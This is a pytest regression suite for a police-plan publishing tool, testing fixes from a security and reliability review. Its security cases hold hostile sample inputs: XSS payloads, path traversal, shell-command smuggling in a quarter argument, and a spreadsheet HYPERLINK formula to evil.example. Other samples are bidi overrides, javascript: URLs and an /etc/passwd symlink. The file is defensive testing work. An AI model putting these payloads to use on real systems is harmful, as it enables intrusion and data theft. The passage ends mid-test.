"""One case per defect of the December 2026 security and reliability probe
(``shared/notes/review-2026-12/security-reliability.md``, ids S1-S9, DL1-DL3, W1-W10, T1-T10,
M1-M5, P1) and of the new user's and the code review's findings (I1-I3, R1-R3). Each case
failed on the code the probe ran (6ad5b63) and passes now; the cases that need a whole build
or Chromium are marked slow or skip saying why.
"""

import csv
import json
import os
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import psutil
import pytest
import yaml
from jinja2 import Environment

from conftest import ROOT, FakeChart, copy_project
from pcpbook import contracts, sphinxext
from pcpbook.build import landing, print_page, printing, runner, site
from pcpbook.build.buildspec import BuildError, publication_settings
from pcpbook.cli import commands
from pcpbook.contracts import commentary, settings, strand_returns, strategy
from pcpbook.contracts.records import RecordError, read_last_build, read_record
from pcpbook.core import outputs, render
from pcpbook.core.periods import Quarter
from pcpbook.present import pages
from pcpbook.sources import ingest, project

STRATEGY = "crime-prevention-2018-2021"
STREET_HEADER = ("Crime ID,Month,Reported by,Falls within,Longitude,Latitude,Location,LSOA code,LSOA name,"
                 "Crime type,Last outcome category,Context")
needs_chromium = pytest.mark.skipif(printing.find_chromium() is None,
                                    reason=f"no print edition without Chromium: {printing.CHROMIUM_HINT}")


def _problems(folder: Path) -> list:
    with pytest.raises(contracts.DataError) as caught:
        contracts.load(folder)
    return caught.value.problems


def _edit(path: Path, old: str, new: str, count: int = 1) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new, count), encoding="utf-8")


def _rename_strand(data_copy: Path, new_id: str) -> list:
    folder = data_copy / "strategies"
    _edit(folder / f"{STRATEGY}.yaml", "- id: domestic-abuse", f"- id: {json.dumps(new_id)}")
    _edit(folder / f"{STRATEGY}-actions.csv", ",domestic-abuse,", f",{new_id},", count=-1)
    with pytest.raises(contracts.DataError) as caught:
        strategy.load_strategies(contracts.load(data_copy))
    return caught.value.problems


def _street_file(path: Path, month: str, place: str = "Essex 001A", rows: int = 3) -> Path:
    lines = [STREET_HEADER] + [f"id{i},{month},Essex Police,Essex Police,0.1,51.7,On or near X,E01000001,"
                               f"{place},Burglary,Under investigation," for i in range(rows)]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


# ----------------------------------------------------------------------------- security

def test_S1_a_strand_id_carrying_html_is_refused(data_copy):
    [problem] = _rename_strand(data_copy, "da<img src=x onerror=alert(document.domain)>")
    assert problem.field == "id" and "it names files and links" in problem.message and problem.line is not None


def test_S2_a_strand_id_with_a_path_is_refused_and_no_file_name_is_made_of_one(data_copy):
    [problem] = _rename_strand(data_copy, "nte/../../../../PWNED_BY_STRAND")
    assert problem.field == "id"
    for unsafe in ("a/../../b", "..", "x y", "<b>", ""):
        with pytest.raises(outputs.UnsafeName):
            outputs.slug("crime-prevention", unsafe)
    assert outputs.slug("crime-prevention-2018-2021", "domestic-abuse") == "crime-prevention-2018-2021-domestic-abuse"


@pytest.mark.parametrize("quarter", ['2023-24-Q4" --help; touch PWNED; echo "', "$(shell touch PWNED)",
                                     "2023-24-Q4'; touch PWNED; echo '", "`touch PWNED`"])
def test_S3_a_quarter_typed_into_make_reaches_the_cli_as_one_argument_and_runs_nothing(tmp_path, quarter):
    """The publish workflow passes its free-text input to make: make neither expands it nor lets
    the shell see it as code (it ran `touch` for the first two)."""
    shown = subprocess.run(["make", "-n", "--no-print-directory", "-C", str(ROOT), "book", f"QUARTER={quarter}",
                            "site", "BASE_URL=/x/", f"PLAN={quarter}", "closure"],
                           capture_output=True, text=True, check=True, cwd=tmp_path)
    calls = [line.replace(".venv/bin/python -m pcpbook", "printf '%s\\n'") for line in shown.stdout.splitlines()
             if "-m pcpbook" in line]
    ran = subprocess.run(["bash", "-c", "\n".join(calls)], capture_output=True, text=True, cwd=tmp_path, check=True)
    assert not (tmp_path / "PWNED").exists() and not (ROOT / "PWNED").exists()
    assert ran.stdout.splitlines().count(quarter) == 3  # book, site and closure: one argument each


def test_S3_the_publish_workflow_checks_the_quarter_before_any_command_uses_it():
    build = _workflow("publish.yml")["jobs"]["build"]["steps"]
    check = next(i for i, step in enumerate(build) if "grep -Eqx" in step.get("run", ""))
    assert check < min(i for i, step in enumerate(build) if "QUARTER" in step.get("env", {}) and i != check)
    for value, accepted in [("2023-24-Q2", True), ("", True), ("2023-24-Q2; touch x", False), ("$(touch x)", False)]:
        result = subprocess.run(["bash", "-c", build[check]["run"]], env={"QUARTER": value, "PATH": "/usr/bin:/bin"},
                                capture_output=True, text=True)
        assert (result.returncode == 0) == accepted, value


def test_S4_csv_cells_a_spreadsheet_would_run_are_made_text_and_numbers_stay_numbers(tmp_path):
    import pandas as pd
    payloads = ['=HYPERLINK("http://evil.example/?x","click")', "+1+1", "@SUM(1+1)", "-2+3", "\tx", "\rx"]
    frame = pd.DataFrame({"series": payloads + ["Kent", "-5"], "value": [1.5, -2, 3, 4, 5, 6, 7, 8]})
    rows = list(csv.reader(outputs.write_frame(tmp_path / "chart.csv", frame).open(newline="")))
    expected = ["'" + p.replace("\r", "\n") for p in payloads] + ["Kent", "-5"]  # a CR inside a cell: a new line
    assert [row[0] for row in rows[1:]] == expected
    assert [row[1] for row in rows[1:]] == ["1.5", "-2.0", "3.0", "4.0", "5.0", "6.0", "7.0", "8.0"]
    written = outputs.write_csv(tmp_path / "benchmark.csv", ["force", "rate"], [{"force": "=1+1", "rate": "-0.5"}])
    assert written.read_text() == "force,rate\n'=1+1,-0.5\n"


def test_S5_a_field_that_leaves_a_bidi_override_open_is_refused(data_copy):
    """Sentences are built around catalogue fields ("1,529 <noun> were recorded ...") and place
    names, so an override the field leaves open would reverse the library's own words after it."""
    catalogue = data_copy / "measures.yaml"
    kept = catalogue.read_text(encoding="utf-8")
    _edit(catalogue, "  noun: burglaries\n", '  noun: "burglaries \\u202e"\n')
    problem = _problems(data_copy)[0]
    assert problem.field == "noun" and "U+202E (RIGHT-TO-LEFT OVERRIDE) is not closed" in problem.message
    catalogue.write_text(kept, encoding="utf-8")
    with (data_copy / "observations.csv").open("a", encoding="utf-8") as handle:
        handle.write("burglary,Kent \u202e,2020-01-01,month,5,x,published\n")
    problem = next(p for p in _problems(data_copy) if p.field == "geography")
    assert "U+202E (RIGHT-TO-LEFT OVERRIDE) is not closed" in problem.message


def test_S5_text_with_a_bidi_override_cannot_reverse_what_follows_it():
    text = render.escape_markdown("burglaries \u202e") + " compared to 1,459"
    isolated = text[:text.index(" compared")]
    assert isolated.startswith("\u2068") and isolated.endswith("\u202c\u2069")  # closed, then isolated
    assert render.escape_html("a\u2067b") == "\u2068a\u2067b\u2069\u2069"
    assert render.escape_markdown("plain") == "plain"


def _workflow(name):
    loaded = yaml.safe_load((ROOT / ".github" / "workflows" / name).read_text(encoding="utf-8"))
    loaded["on"] = loaded.pop(True, loaded.get("on"))
    return loaded


def test_S6_each_workflow_job_holds_only_the_permissions_it_needs():
    publish, test = _workflow("publish.yml"), _workflow("test.yml")
    assert publish["permissions"] == {} and test["permissions"] == {"contents": "read"}
    assert publish["jobs"]["build"]["permissions"] == {"contents": "write"}
    assert publish["jobs"]["deploy"]["permissions"] == {"pages": "write", "id-token": "write"}


def test_S7_every_action_is_pinned_by_its_commit():
    uses = [step["uses"] for name in ("publish.yml", "test.yml") for job in _workflow(name)["jobs"].values()
            for step in job["steps"] if "uses" in step]
    assert len(uses) == 6 and all(__import__("re").fullmatch(r"actions/[\w-]+@[0-9a-f]{40}", u) for u in uses), uses


def test_S8_the_author_and_titles_the_theme_prints_raw_are_escaped_once():
    context = {"author": 'AUTHOR <script>alert("author")</script>', "docstitle": "A&E <50%", "pagetitle": "x"}
    sphinxext.escape_theme_texts(None, "index", "page.html", context, None)
    page = Environment().from_string("{{ author }}|{{ docstitle }}|{{ docstitle|e }}").render(**context)
    assert page == ("AUTHOR &lt;script&gt;alert(&quot;author&quot;)&lt;/script&gt;|A&amp;E &lt;50%|"
                    "A&amp;E &lt;50%")


def test_S9_a_tampered_record_never_reaches_the_landing_page(tmp_path):
    folder = tmp_path / "site" / "2023-24-Q4"
    folder.mkdir(parents=True)
    (folder / "edition.json").write_text(json.dumps(_record(edition="javascript:alert(document.domain)//")))
    with pytest.raises(RecordError, match="field 'edition'"):
        landing.write_site_pages(tmp_path / "site", "/")


def _record(**changes) -> dict:
    return {"edition": "2023-24-Q4", "label": "2023/24 Q4", "plan_title": "Plan", "version": "1.0",
            "produced": "2024-05-01", "data_to": "March 2024", "inputs": {"data": "ab" * 32, "print": ""},
            "inputs_sha256": "cd" * 32, "contents": {"measures": {"burglary": "0123456789abcdef"}}, **changes}


# ----------------------------------------------------------------------------- data loss

def test_DL1_a_long_return_is_printed_whole():
    page = '<details class="pcp-long"><summary>Opening ... (show all 1,674 characters)</summary>FINAL</details>'
    printed = print_page.opened_for_print(page)
    assert printed.startswith('<details open class="pcp-long">')
    assert "details.pcp-long > summary { display: none; }" in printing.page_css("OFFICIAL", "x")


@needs_chromium
def test_DL1_the_print_edition_holds_the_end_of_a_long_return(tmp_path):
    css = tmp_path / "print.css"
    css.write_text(printing.page_css("OFFICIAL", "footer"))
    page = tmp_path / "page.html"
    page.write_text(print_page.opened_for_print(
        f'<link rel="stylesheet" href="print.css"><details class="pcp-long"><summary>OPENING ... (show all)</summary>'
        f'<p>{"Work went on. " * 150}FINAL SENTENCE: the unit missed its deadline.</p></details>'))
    printing.print_to_pdf(page, tmp_path / "page.pdf", printing.find_chromium(), timeout=60)
    from pypdf import PdfReader
    text = " ".join(p.extract_text() for p in PdfReader(tmp_path / "page.pdf").pages)
    assert "FINAL SENTENCE" in text and "show all" not in text


def test_DL2_a_risk_over_the_limit_is_refused_not_cut(data_copy):
    path = data_copy / "strategy-returns" / STRATEGY / "2021-22-Q2.md"
    _edit(path, "  Risk: Not enough", "  Risk: " + "x" * 2_600 + " THE-END-OF-RISK Not enough")
    chosen = strategy.find_strategy(contracts.load(data_copy), STRATEGY)
    with pytest.raises(strand_returns.StrandReturnsError) as caught:
        strand_returns.check(path, chosen, Quarter.parse("2021-22-Q2"))
    [problem] = caught.value.problems
    assert problem.field == "Risk" and "nothing is cut" in problem.message


@pytest.mark.slow
@needs_chromium
def test_DL3_a_build_without_chromium_keeps_the_published_pdf_and_version(tmp_path, monkeypatch):
    project_folder = copy_project(tmp_path / "project")
    from pcpbook.build import edition
    edition.build(project_folder, quarter="2021-22-Q1", workers=2)
    published = project_folder / "_build" / "site" / "2021-22-Q1"
    before = {p: p.read_bytes() for p in published.rglob("*") if p.is_file()}
    monkeypatch.setenv("PCPBOOK_CHROMIUM", str(tmp_path / "no-chromium"))
    [result] = edition.build_many(project_folder, ["2021-22-Q1"], workers=2)
    assert result.status == "kept as published: no Chromium to print it" and result.version == "1.0"
    assert {p: p.read_bytes() for p in published.rglob("*") if p.is_file()} == before


# ----------------------------------------------------------------------------- silent wrong output

def test_W1_a_second_population_for_a_force_and_year_is_refused_naming_both_lines(data_copy):
    path = data_copy / "population.csv"
    lines = path.read_text(encoding="utf-8").splitlines()
    essex = next(n for n, line in enumerate(lines, 1) if line.startswith("Essex,2023,"))
    lines.insert(1, "Essex,2023,9999999,made up,published")
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    [problem] = _problems(data_copy)
    assert (problem.line, problem.field) == (essex + 1, "year") and "already, at line 2" in problem.message


@pytest.mark.parametrize("target, field", [
    ("{measure: burglary, percent: -150, baseline: 2019/20, by: 2021-03-31, source: s}", "target.percent"),
    ("{measure: officer_fte, level: -100, baseline: 2016-03-31, by: 2021-03-31, source: s}", "target.level"),
    ("{measure: officer_fte, level: 100, baseline: 2016-03-31, by: 9999-12-31, source: s}", "target.by"),
    ("{measure: burglary, change: 1.0e+300, baseline: 1900/01, by: 2021-03-31, source: s}", "target.change"),
    ("{measure: burglary, change: -10, baseline: 1900/01, by: 2021-03-31, source: s}", "target.baseline"),
    ("{measure: public_confidence, level: 150, baseline: 2015/16, by: 2021-03-31, source: s}", "target.level"),
])
def test_W2_an_impossible_target_is_refused(data_copy, target, field):
    path = data_copy / "plans" / "2016-2021.yaml"
    text = path.read_text(encoding="utf-8")
    priority = next(p for p in yaml.safe_load(text)["priorities"] if target.split(",")[0].split()[-1] in p["measures"])
    old = next(f'{{id: "{c["id"]}",' for c in priority["commitments"])
    _edit(path, f"      - {old}", f"      - {old} target: {target},")
    assert field in {p.field for p in _problems(data_copy)}


def test_W3_every_setting_of_config_yml_is_in_each_books_key(tmp_path):
    folder = copy_project(tmp_path / "project")
    before = publication_settings(settings.load_project(folder), "/")
    _edit(folder / "_config.yml", "author: Performance Analysis Unit (demonstration)", "author: Someone else")
    after_author = publication_settings(settings.load_project(folder), "/")
    _edit(folder / "_config.yml", "home_page_in_navbar: true", "home_page_in_navbar: false")
    assert len({before, after_author, publication_settings(settings.load_project(folder), "/")}) == 3


def test_W4_a_hash_line_that_would_end_a_return_entry_is_refused(tmp_path):
    path = tmp_path / "2023-24-Q4.md"
    path.write_text("## 1.1\nWho: A\nStatus: on track\n\nDone.\n# IMPORTANT: recruitment paused, budget cut\n")
    [problem] = commentary.parse(path)[2]
    assert problem.line == 6 and "would end entry 1.1 and be dropped" in problem.message


def test_W5_a_month_that_is_true_is_refused(data_copy):
    _edit(data_copy / "strategies" / f"{STRATEGY}.yaml", "    insights: [domestic_abuse]",
          "    insights: [domestic_abuse]\n    months_to: true")
    with pytest.raises(contracts.DataError) as caught:
        strategy.load_strategies(contracts.load(data_copy))
    assert [p.field for p in caught.value.problems] == ["months_to"]


@pytest.mark.parametrize("value", ["abc", "-1", "1.5", "nan"])
def test_W6_a_stats19_adjusted_severity_that_is_no_probability_is_refused(tmp_path, value):
    collisions = tmp_path / "collisions.csv"
    collisions.write_text("accident_index,police_force,date\nA1,42,03/01/2023\nA2,42,04/01/2023\n")
    casualties = tmp_path / "casualties.csv"
    casualties.write_text("accident_index,casualty_severity,casualty_adjusted_severity_serious\n"
                          f"A1,2,0.5\nA2,3,{value}\n")
    with pytest.raises(ingest.IngestError) as caught:
        ingest.stats19(collisions, casualties, force=42)
    [problem] = caught.value.problems
    assert (problem.line, problem.field) == (3, "casualty_adjusted_severity_serious")


def test_W7_the_book_title_reaches_the_theme_as_typed(tmp_path):
    from pcpbook.build import jupyterbook
    folder = copy_project(tmp_path / "project")
    _edit(folder / "data" / "plans" / "2021-2024.yaml", "title: Police and Crime Plan 2021-2024",
          "title: \"Police, Fire & Crime Commissioner's Plan <50% 2021-2024\"")
    dataset = contracts.load(folder / "data")
    from pcpbook.build.buildspec import plan_edition
    quarter = Quarter.parse("2021-22-Q1")
    planned = plan_edition(folder, dataset, quarter, dataset.plans["2021-2024"], tmp_path / "site", "lib", None, "x")
    planned.stage.mkdir(parents=True)
    jupyterbook.write_book_files(settings.load_project(folder), planned, "/")
    title = yaml.safe_load((planned.stage / "_config.yml").read_text())["title"]
    assert title.startswith("Police, Fire & Crime Commissioner's Plan <50% 2021-2024")  # escaped by sphinxext


def test_W8_alt_text_reaches_the_page_as_typed(tmp_path, monkeypatch):
    from docutils.core import publish_string
    from myst_parser.parsers.docutils_ import Parser

    from pcpbook.present import sections
    monkeypatch.chdir(tmp_path)

    markdown = sections.save_figure(FakeChart("U-label Burglary é A&E <50% * [x] `b` $y$ end-label"), "2021-2024-p01")
    html = publish_string(markdown, parser=Parser(), writer_name="html5", settings_overrides={"output_encoding": "unicode"})
    assert 'alt="U-label Burglary é A&amp;E &lt;50% * [x] `b` $y$ end-label"' in html


@needs_chromium
def test_W9_emoji_and_cjk_print(tmp_path):
    page = tmp_path / "page.html"
    page.write_text('<html lang="en"><meta charset="utf-8"><p>Patrol 🚓 警察 done</p></html>', encoding="utf-8")
    printing.print_to_pdf(page, tmp_path / "page.pdf", printing.find_chromium(), timeout=60)
    from pypdf import PdfReader
    text = PdfReader(tmp_path / "page.pdf").pages[0].extract_text()
    assert "警察" in text and "\x00" not in text, "install fonts-noto-cjk and fonts-noto-color-emoji (see .ci/run)"


def test_W10_a_record_with_markup_in_a_measure_key_or_version_is_not_trusted(tmp_path):
    path = tmp_path / "edition.json"
    for bad in (_record(contents={"measures": {'<img src=x onerror=alert("rev")>': "0123456789abcdef"}}),
                _record(version="1.0<script>alert(1)</script>")):
        path.write_text(json.dumps(bad))
        with pytest.raises(RecordError):
            read_record(path)
    path.write_text(json.dumps(_record()))
    assert read_record(path)["version"] == "1.0"


# ----------------------------------------------------------------------------- tracebacks

@pytest.mark.parametrize("text", ["{not json", json.dumps(_record(version="1.x")),
                                  json.dumps(_record(contents=[1, 2]))])
def test_T1_a_damaged_record_is_named_not_a_traceback(tmp_path, text):
    path = tmp_path / "edition.json"
    path.write_text(text)
    with pytest.raises(RecordError, match=str(path)):
        read_record(path)


def test_T1_a_last_build_record_without_its_fields_is_ignored(tmp_path):
    path = tmp_path / "last-build.json"
    path.write_text(json.dumps({"raw": "ab" * 32, "books": [{"name": "2023-24-Q4", "inputs_sha256": "ab" * 32}]}))
    assert read_last_build(path) is None


def test_T2_a_fork_that_is_not_a_notebook_is_named(tmp_path):
    fork = tmp_path / "p03.ipynb"
    fork.write_text("not json")
    with pytest.raises(pages.PageError, match="this fork cannot be read as a notebook"):
        pages.read_fork(fork)


def test_T3_a_folder_or_file_in_a_forks_way_is_named(tmp_path):
    folder = copy_project(tmp_path / "project")
    plan = contracts.load(folder / "data").plans["2021-2024"]
    page = next(p for p in pages.edition_pages(plan) if p.defaults.get("priority") == 3)
    (folder / page.fork).mkdir(parents=True)
    with pytest.raises(pages.PageError, match="is a folder, not a fork"):
        pages.drop_fork(folder, page)
    shutil.rmtree(folder / pages.FORKS)
    (folder / pages.FORKS).write_text("a file")
    with pytest.raises(pages.PageError, match="is a file where the forks' folder belongs"):
        pages.fork(folder, page)


def test_T4_init_into_or_below_a_file_is_refused(tmp_path):
    afile = tmp_path / "afile"
    afile.write_text("x")
    for target in (afile, afile / "sub"):
        with pytest.raises(project.ProjectError, match="is a file"):
            project.init(target, "Kent Police")


def test_T5_a_chapter_that_cannot_be_written_fails_by_name(tmp_path):
    blocker = tmp_path / "staging"
    blocker.write_text("a file where the chapter's folder belongs")
    failure = runner.execute_chapter("chapters/p01.md", "{}", blocker / "p01.ipynb", {})
    assert isinstance(failure, runner.ChapterFailure) and "could not write" in failure.error


def test_T6_a_build_folder_that_cannot_be_written_is_one_line(tmp_path, capsys):
    folder = copy_project(tmp_path / "project")
    (folder / "_build").write_text("not a folder")
    assert commands.main(["--project", str(folder), "build", "--quarter", "2023-24-Q4"]) == 1
    error = capsys.readouterr().err
    assert error.startswith("error: ") and "_build" in error and "Traceback" not in error


def test_T7_a_superscript_digit_is_not_a_number(data_copy, tmp_path):
    path = data_copy / "strategy-returns" / STRATEGY / "2021-22-Q2.md"
    _edit(path, "Total: 37", "Total: ²")
    chosen = strategy.find_strategy(contracts.load(data_copy), STRATEGY)
    with pytest.raises(strand_returns.StrandReturnsError, match="field 'Total': got '²': expected a whole number"):
        strand_returns.check(path, chosen, Quarter.parse("2021-22-Q2"))
    table = tmp_path / "ons.csv"
    table.write_text("year,Essex\n2019,²\n", encoding="utf-8")
    with pytest.raises(ingest.IngestError, match="line 2, field 'Essex'"):
        ingest.ons_population(table)


def test_T8_a_header_field_over_the_limit_is_named(tmp_path):
    path = tmp_path / "2024-01-essex-street.csv"
    path.write_text("Month," + "x" * 30_000 + "\n2024-01,y\n")
    with pytest.raises(ingest.IngestError, match="line 1: not a readable UTF-8 CSV header"):
        ingest.police_uk([path])


def test_T9_a_folder_where_a_file_is_read_is_one_line(data_copy, capsys):
    folder = data_copy / "commentary" / "a-folder.md"
    folder.mkdir()
    assert commands.main(["commentary", "check", "--data", str(data_copy), "--quarter", "2023-24-Q4",
                     "--file", str(folder)]) == 2
    assert "this is a folder: expected a file" in capsys.readouterr().err
    assert commands.main(["strategy", "check", "--data", str(data_copy), "--strategy", STRATEGY, "--quarter", "2021-22-Q2",
                     "--file", str(folder)]) == 2
    assert "1 problem(s)" in capsys.readouterr().err  # the folder, not a dozen echoes of it
    (data_copy / "observations.csv").unlink()
    (data_copy / "observations.csv").mkdir()
    assert any("this is a folder" in p.message for p in _problems(data_copy))


def _git(cwd, *args):
    return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True).stdout


def test_T10_restoring_a_site_with_a_link_out_of_it_keeps_the_local_site(tmp_path):
    remote = tmp_path / "remote.git"
    _git(tmp_path, "init", "--quiet", "--bare", str(remote))
    for name in ("first", "second"):
        (tmp_path / name / "_build" / "site").mkdir(parents=True)
        _git(tmp_path / name, "init", "--quiet")
        _git(tmp_path / name, "remote", "add", "origin", str(remote))
    published = tmp_path / "first" / "_build" / "site"
    (published / "index.html").write_text("published")
    (published / "passwd").symlink_to("/etc/passwd")
    script = [sys.executable, str(ROOT / "scripts" / "site_branch.py")]
    refused = subprocess.run(script + ["save"], cwd=tmp_path / "first", capture_output=True, text=True)
    assert refused.returncode == 1 and "links outside the site (/etc/passwd)" in refused.stderr  # save refuses it too
    by_hand = {**os.environ, "GIT_DIR": str(tmp_path / "first" / ".git"), "GIT_WORK_TREE": str(published),
               "GIT_AUTHOR_NAME": "x", "GIT_AUTHOR_EMAIL": "x@x", "GIT_COMMITTER_NAME": "x", "GIT_COMMITTER_EMAIL": "x@x"}
    for command in (["add", "-A", "."], ["commit", "-qm", "a site with a link out"], ["push", "-q", "origin",
                                                                                    "HEAD:refs/heads/site"]):
        subprocess.run(["git", *command], cwd=published, env=by_hand, check=True, capture_output=True)
    local = tmp_path / "second" / "_build" / "site" / "index.html"
    local.write_text("local")
    result = subprocess.run(script + ["restore"], cwd=tmp_path / "second", capture_output=True, text=True)
    assert result.returncode == 1 and "cannot be restored safely" in result.stderr and "Traceback" not in result.stderr
    assert local.read_text() == "local"


# ----------------------------------------------------------------------------- unclear messages

def test_M1_a_copy_that_fails_on_every_file_is_told_in_a_line(tmp_path, monkeypatch):
    built = tmp_path / "html"
    built.mkdir()
    failures = [(f"src{i}", f"/site/.incoming/file{i}.html", "[Errno 28] No space left on device") for i in range(138)]

    def full_disk(*args, **kwargs):
        raise shutil.Error(failures)

    monkeypatch.setattr(shutil, "copytree", full_disk)
    with pytest.raises(BuildError) as caught:
        site.publish(built, tmp_path / "site", "2023-24-Q4")
    assert len(str(caught.value)) < 400 and "(and 137 more files)" in str(caught.value)


@pytest.mark.parametrize("label", ["Burglary 🚓", "Burglary 警察"])
def test_M2_a_label_the_chart_font_cannot_draw_is_refused_naming_the_field(data_copy, label):
    _edit(data_copy / "measures.yaml", "label: Burglary (all)", f"label: {label}")
    problem = _problems(data_copy)[0]
    assert problem.field == "label" and "cannot be drawn on charts" in problem.message


def test_M3_a_ragged_police_uk_row_is_named_by_its_line_without_duckdbs_dump(tmp_path):
    path = _street_file(tmp_path / "2024-01-essex-street.csv", "2024-01", rows=5_000)
    with path.open("a") as handle:
        handle.write("a,b,c\n")
    with pytest.raises(ingest.IngestError) as caught:
        ingest.police_uk([path])
    [problem] = caught.value.problems
    assert problem.line == 5_002 and "SELECT" not in problem.message and "Possible fixes" not in problem.message


def test_M4_a_bad_zip_member_is_named_inside_its_archive(tmp_path):
    member = _street_file(tmp_path / "2024-13-essex-street.csv", "2024-13")
    archive = tmp_path / "badmonth.zip"
    with zipfile.ZipFile(archive, "w") as handle:
        handle.write(member, "2024-13/2024-13-essex-street.csv")
    member.unlink()
    with pytest.raises(ingest.IngestError, match=r"badmonth.zip!2024-13/2024-13-essex-street.csv, line 2, field 'Month'"):
        ingest.police_uk([archive])


def test_M5_a_note_given_when_nothing_changed_is_said_to_be_unrecorded(monkeypatch, capsys, tmp_path):
    from pcpbook.build import edition
    monkeypatch.setattr(edition, "build_many", lambda *args, **kwargs: [
        edition.BuildResult(Quarter.parse("2023-24-Q4"), "2021-2024", tmp_path, "1.0", "up to date")])
    assert commands.main(["--project", str(ROOT), "build", "--note", "second"]) == 0
    assert "--note was not recorded" in capsys.readouterr().err


# ----------------------------------------------------------------------------- processes

def _sphinx_is_building(folder: Path, family: list) -> bool:
    return (folder / "_build" / "staging" / "2021-22-Q1" / "_build" / "html").exists()


def _chromium_is_printing(folder: Path, family: list) -> bool:
    return any("chrom" in " ".join(_cmdline(p)).lower() for p in family)


@pytest.mark.slow
@needs_chromium
@pytest.mark.parametrize("step", [_sphinx_is_building, _chromium_is_printing], ids=["sphinx", "printing"])
def test_P1_a_build_killed_while_sphinx_builds_or_chromium_prints_leaves_no_process(tmp_path, step):
    folder = copy_project(tmp_path / "project")
    build = subprocess.Popen([sys.executable, "-m", "pcpbook", "build", "--quarter", "2021-22-Q1", "--workers", "2"],
                             cwd=folder, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline, family = time.monotonic() + 600, []
    while time.monotonic() < deadline and build.poll() is None and not step(folder, family):
        family = psutil.Process(build.pid).children(recursive=True)
        time.sleep(0.2)
    assert build.poll() is None, "the build ended before the step"
    family = psutil.Process(build.pid).children(recursive=True)
    assert any("forkserver" in " ".join(_cmdline(p)) for p in family)
    os.kill(build.pid, signal.SIGKILL)
    build.wait()
    deadline = time.monotonic() + 60  # a few seconds on an idle machine; generous on a loaded one
    while time.monotonic() < deadline and _alive(family):
        time.sleep(0.5)
    assert _alive(family) == []


def _cmdline(process) -> list[str]:
    try:
        return process.cmdline()
    except psutil.Error:
        return []


def _alive(processes) -> list:
    return [p for p in processes if p.is_running() and p.status() != psutil.STATUS_ZOMBIE]


# ----------------------------------------------------------------------------- the new user's ingest

def test_I1_a_later_police_uk_file_quoting_a_comma_is_read_with_the_same_dialect(tmp_path):
    first = _street_file(tmp_path / "2025-01-dorset-street.csv", "2025-01")
    later = _street_file(tmp_path / "2025-02-dorset-street.csv", "2025-02",
                         place='"Bournemouth, Christchurch and Poole 001A"')
    frame = ingest.police_uk([first, later]).observations
    burglary = frame[frame["measure"] == "burglary"].set_index("period_start")["value"]
    assert burglary.to_dict() == {"2025-01-01": 3, "2025-02-01": 3}


def test_I2_the_same_month_from_a_folder_and_a_zip_is_counted_once_and_different_copies_are_refused(tmp_path):
    folder = tmp_path / "folder"
    folder.mkdir()
    month = _street_file(folder / "2025-01-essex-street.csv", "2025-01", rows=488)
    archive = tmp_path / "2025-01.zip"
    with zipfile.ZipFile(archive, "w") as handle:
        handle.write(month, "2025-01/2025-01-essex-street.csv")
    result = ingest.police_uk([folder, archive])
    burglary = result.observations[result.observations["measure"] == "burglary"]["value"]
    assert burglary.tolist() == [488] and "read once" in result.summary()
    other = tmp_path / "other"
    other.mkdir()
    _street_file(other / "2025-01-essex-street.csv", "2025-01", rows=480)
    with pytest.raises(ingest.IngestError, match="Essex Police 2025-01 is also in .* and the two files differ"):
        ingest.police_uk([folder, other])


def test_I3_an_extract_that_exists_is_merged_by_month_and_a_replacement_is_said(tmp_path):
    out = tmp_path / "police-uk.csv"
    january = ingest.police_uk([_street_file(tmp_path / "a-street.csv", "2025-01")]).observations
    ingest.write_observations(january, out)
    february = ingest.police_uk([_street_file(tmp_path / "b-street.csv", "2025-02", rows=4),
                                 _street_file(tmp_path / "c-street.csv", "2025-01", rows=5)]).observations
    merged, notes = ingest.merge_into(out, february)
    burglary = merged[merged["measure"] == "burglary"].set_index("period_start")["value"]
    assert burglary.to_dict() == {"2025-01-01": 5, "2025-02-01": 4}
    assert "replaced 1 value(s) in 1 month(s) with the new figures: 2025-01 (Essex)" in notes[0]


# ----------------------------------------------------------------------------- the probe's re-run on this work

def test_N2_a_damaged_record_of_another_book_stops_a_build_before_anything_is_published(tmp_path, capsys):
    folder = copy_project(tmp_path / "project")
    other = folder / "_build" / "site" / "2023-24-Q4"
    other.mkdir(parents=True)
    (other / "edition.json").write_text(json.dumps(_record(edition="javascript:alert(document.domain)//")))
    assert commands.main(["--project", str(folder), "build", "--quarter", "2023-24-Q3"]) == 2
    assert "field 'edition'" in capsys.readouterr().err
    assert sorted(p.name for p in (folder / "_build" / "site").iterdir()) == ["2023-24-Q4"]
    assert not (folder / "_build" / "cache").exists()  # no chapter ran


def test_N3_a_folder_given_as_a_file_to_write_is_named_and_nothing_is_left(tmp_path):
    folder = tmp_path / "adir"
    folder.mkdir()
    with pytest.raises(IsADirectoryError, match="this is a folder: name a file to write"):
        outputs.write_csv(folder, ["force"], [{"force": "Kent"}])
    assert sorted(p.name for p in tmp_path.iterdir()) == ["adir"]


@pytest.mark.parametrize("setting", ['marking: "OFFICIAL</style><script>x</script>"', "chapter_timeout: abc",
                                     "dta: data", "marking: [unclosed"])
def test_N4_a_bad_setting_in_config_yml_is_one_line(tmp_path, capsys, setting):
    folder = copy_project(tmp_path / "project")
    _edit(folder / "_config.yml", "  marking: OFFICIAL", f"  {setting}")
    assert commands.main(["--project", str(folder), "validate"]) == 2
    error = capsys.readouterr().err
    assert error.startswith("error: ") and "_config.yml" in error and "Traceback" not in error


def test_N5_a_peer_force_name_that_leaves_a_bidi_override_open_is_refused(data_copy):
    _edit(data_copy / "peer_group.csv", "\nKent,", "\nKent\u202e,")
    problem = next(p for p in _problems(data_copy) if p.field == "force")
    assert "U+202E (RIGHT-TO-LEFT OVERRIDE) is not closed" in problem.message


@pytest.mark.parametrize("logo", ["/etc/passwd", "../../etc/hostname.png", "img/../../x.png"])
def test_N6_a_logo_outside_the_project_is_refused(tmp_path, logo):
    folder = copy_project(tmp_path / "project")
    _edit(folder / "_config.yml", 'logo: ""', f'logo: "{logo}"')
    with pytest.raises(settings.SettingsError, match="field 'logo'"):
        settings.project_config(folder)


@pytest.mark.parametrize("count", ["inf", "1e400", "2.6", "-0.4"])
def test_N7_a_home_office_count_that_is_no_whole_number_is_refused_with_its_line(tmp_path, count):
    table = tmp_path / "prc.csv"
